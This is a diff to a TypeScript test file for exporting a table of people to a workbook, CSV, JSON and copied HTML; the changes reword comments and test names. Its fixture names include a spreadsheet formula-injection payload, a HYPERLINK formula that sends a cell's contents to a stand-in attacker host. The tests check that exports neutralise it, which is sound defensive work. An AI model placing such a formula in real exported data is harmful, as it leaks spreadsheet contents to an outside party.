@@ -28,7 +28,7 @@ const person = (name: string, more: Partial<ListRow> = {}) =>
     ...more,
   });
 
-/** What people are called, and what a program might do with it. */
+/** Names of people, some of which a program might misread. */
 const names = [
   '=HYPERLINK("https://evil.example/?"&A1,"x")',
   '+7 900 000-00-00',
@@ -54,7 +54,7 @@ test('a workbook holds texts as texts, numbers as numbers, dates as dates, links
   expect(sheet.length).toBe(names.length + 1);
   expect(sheet[0]?.slice(0, 3)).toEqual(['Имя', 'Должность', 'Возраст']);
   const said = sheet.slice(1).map((line) => String(line[0]));
-  // A reader may trim what stands at the ends; the last two are what no XML, and no cell, can hold.
+  // A reader may trim the ends. XML cannot hold the last name but one, and a cell cannot hold the last.
   for (const [index, name] of names.entries())
     if (index < names.length - 2) expect(said[index]?.trim()).toBe(name.trim());
   expect(said.at(-2)).toBe('Плохойзнак\ufffd');
@@ -69,7 +69,7 @@ test('a workbook holds texts as texts, numbers as numbers, dates as dates, links
   expect([...(book.sheets[0]?.cells?.values() ?? [])].filter(({ formula }) => formula)).toEqual([]);
 });
 
-test('no cell of a CSV begins as a formula, and all of it is read again', async () => {
+test('no cell of a CSV begins like a formula, and reading the file gives everything back', async () => {
   const text = (await bytesOf(await csvOf(columns, rows))).toString('utf8');
   expect(text.startsWith('\ufeffИмя;Должность;')).toBe(true);
   const { data, errors } = Papa.parse<string[]>(text.slice(1), { delimiter: ';', skipEmptyLines: true });
@@ -84,7 +84,7 @@ test('no cell of a CSV begins as a formula, and all of it is read again', async 
   expect(data[1]?.[indexOf('resume')]).toMatch(/^https:\/\/hh\.ru\/resume\/ab12/);
 });
 
-test('what was not read is said, never nought and never nothing', async () => {
+test('says that a fact was not read, never zero and never nothing', async () => {
   const row = person('Ким', { testScore: unread, unreadMessages: unread });
   const text = await (await csvOf(columns, [row])).text();
   expect(text.match(/неизвестно/g)).toHaveLength(2);
@@ -102,7 +102,7 @@ test('JSON holds everything exactly, however strange', async () => {
   expect(read.rows.map(({ name }: { name: string }) => name)).toEqual(names);
 });
 
-test('a copied table is markup with links and no formula; its text has one line a row', () => {
+test('a copied table is HTML with links and no formulas; its text has one line per row', () => {
   const { html, text } = copyOf(columns, rows);
   const table = new DOMParser().parseFromString(html, 'text/html');
   const lines = [...table.querySelectorAll('tr')];
